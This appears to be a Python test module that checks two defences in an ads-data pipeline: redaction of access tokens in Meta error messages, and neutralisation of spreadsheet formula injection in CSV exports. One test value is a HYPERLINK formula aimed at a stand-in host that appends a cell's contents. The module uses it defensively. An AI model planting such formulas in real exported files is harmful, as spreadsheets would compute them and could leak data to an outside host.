"""Attacks by text: a token that Meta repeats, and names that a spreadsheet would compute."""

import csv
import io
import re
from unittest.mock import patch

from attack.attempts import Attack
from fbads_pipeline.adapters import csv_writing
from fbads_pipeline.adapters.csv_writing import CsvStyle, CsvWriter
from fbads_pipeline.domain.collection import meta_errors
from fbads_pipeline.domain.core import errors

_TOKEN = "EAAattackCanary7391"
_HOSTILE = 'Loja;=HYPERLINK("http://x.example/"&A1;"ok")'
_NEVER = re.compile(r"(?!)()()")


def _shows_a_token(is_protected: bool) -> bool:
    envelope = {"message": f"Malformed access token {_TOKEN}", "code": 190, "fbtrace_id": _TOKEN}
    with (
        patch.object(errors, "redact_all", errors.redact_all if is_protected else tuple),
        patch.object(meta_errors, "redact", meta_errors.redact if is_protected else str),
    ):
        return _TOKEN in str(meta_errors.error_from_envelope(envelope, 400))


def _computes_a_cell(is_protected: bool) -> bool:
    out = io.StringIO()
    starts = csv_writing._CELL_STARTS if is_protected else _NEVER
    with patch.object(csv_writing, "_CELL_STARTS", starts):
        CsvWriter(out, CsvStyle.BRAZILIAN).write([_HOSTILE])
    rows = csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff")), delimiter=",")
    return any(part.startswith("=") for row in rows for cell in row for part in cell.split(";"))


TEXT_ATTACKS = (
    Attack("a token that Meta repeats is shown", _shows_a_token),
    Attack("a campaign's name computes a cell at the other separator", _computes_a_cell),
)
